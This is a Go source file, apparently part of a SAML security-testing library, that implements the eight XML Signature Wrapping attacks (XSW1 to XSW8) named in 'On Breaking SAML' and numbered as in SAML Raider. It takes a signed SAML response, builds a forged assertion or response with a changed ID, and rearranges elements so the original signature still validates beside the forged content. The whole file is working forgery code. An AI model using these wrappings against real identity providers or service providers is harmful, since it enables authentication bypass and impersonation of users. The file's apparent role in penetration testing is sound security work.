package xmlforge

import (
	"errors"
	"slices"

	"github.com/beevik/etree"
)

// A Wrapping moves what is signed aside and puts something else in its place. The names
// are those of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as
// the tool SAML Raider numbers them.
type Wrapping struct {
	Name     string
	What     string
	Response bool // if true, the signature of the response is wrapped, and otherwise that of the assertion
	wrap     func(w work)
}

// work is what a wrapping rearranges. At the start, signed stands in the response (or is
// the response) with its signature, original is a copy of it without one, and evil is
// another copy without one, changed and with another ID.
type work struct {
	parent           *etree.Element // of signed; nil if that is the response
	signed           *etree.Element
	signature        *etree.Element // the one in signed
	original, evil   *etree.Element
	spoil            func(*etree.Element) // changes an element as evil was changed, its ID included
	extensions, hull *etree.Element       // empty elements: samlp:Extensions and ds:Object
}

// Wrappings returns the eight wrappings.
func Wrappings() []Wrapping {
	return []Wrapping{
		{"XSW1", "the response is replaced, and its signature holds the signed one", true, func(w work) {
			w.spoil(w.signed)
			w.signature.AddChild(w.original)
		}},
		{"XSW2", "the response is replaced, and the signed one stands before its signature", true, func(w work) {
			w.spoil(w.signed)
			w.signed.InsertChildAt(w.signature.Index(), w.original)
		}},
		{"XSW3", "an unsigned assertion stands before the signed one", false, func(w work) {
			w.parent.InsertChildAt(w.signed.Index(), w.evil)
		}},
		{"XSW4", "an unsigned assertion holds the signed one", false, func(w work) {
			w.parent.InsertChildAt(w.signed.Index(), w.evil)
			w.evil.AddChild(w.signed)
		}},
		{"XSW5", "the assertion is changed and keeps the signature, and the signed one stands at the end", false, func(w work) {
			w.spoil(w.signed)
			w.parent.AddChild(w.original)
		}},
		{"XSW6", "the assertion is changed and keeps the signature, which holds the signed one", false, func(w work) {
			w.spoil(w.signed)
			w.signature.AddChild(w.original)
		}},
		{"XSW7", "an unsigned assertion with the ID of the signed one stands in Extensions", false, func(w work) {
			id := idAttribute(w.signed)
			w.evil.CreateAttr(id, w.signed.SelectAttrValue(id, ""))
			w.extensions.AddChild(w.evil)
			w.parent.InsertChildAt(w.signed.Index(), w.extensions)
		}},
		{"XSW8", "the assertion is changed and keeps its ID and signature, in which an Object holds the signed one", false, func(w work) {
			id := idAttribute(w.signed)
			value := w.signed.SelectAttrValue(id, "")
			w.spoil(w.signed)
			w.signed.CreateAttr(id, value)
			w.hull.AddChild(w.original)
			w.signature.AddChild(w.hull)
		}},
	}
}

// Apply returns a wrapped copy of response, in which the response or its assertion is
// signed. change makes the false element say something else.
func (w Wrapping) Apply(response *etree.Element, change func(evil *etree.Element)) (*etree.Element, error) {
	response = response.Copy()
	signed := response
	if !w.Response {
		signed = childCalled(response, "Assertion")
	}
	if signed == nil || childCalled(signed, "Signature") == nil {
		return nil, errors.New("xmlforge: nothing is signed that could be wrapped")
	}
	spoil := func(el *etree.Element) {
		change(el)
		el.CreateAttr(idAttribute(el), "_evil_"+signed.Tag)
	}
	unsigned := func() *etree.Element {
		el := signed.Copy()
		el.RemoveChild(childCalled(el, "Signature"))
		return el
	}
	job := work{
		signed: signed, signature: childCalled(signed, "Signature"),
		original: unsigned(), evil: unsigned(), spoil: spoil,
		extensions: etree.NewElement("samlp:Extensions"), hull: etree.NewElement("ds:Object"),
	}
	if !w.Response {
		job.parent = response
	}
	job.extensions.CreateAttr("xmlns:samlp", "urn:oasis:names:tc:SAML:2.0:protocol")
	job.hull.CreateAttr("xmlns:ds", spaceSignature)
	spoil(job.evil)
	w.wrap(job)
	return response, nil
}

// childCalled returns the first child of this name in any namespace, or nil.
func childCalled(el *etree.Element, local string) *etree.Element {
	children := el.ChildElements()
	i := slices.IndexFunc(children, func(c *etree.Element) bool { return c.Tag == local })
	if i < 0 {
		return nil
	}
	return children[i]
}

// idAttribute returns the name of the attribute that is el's ID in SAML 2.0 or 1.1.
func idAttribute(el *etree.Element) string {
	for _, name := range []string{"AssertionID", "ResponseID"} {
		if el.SelectAttr(name) != nil {
			return name
		}
	}
	return "ID"
}
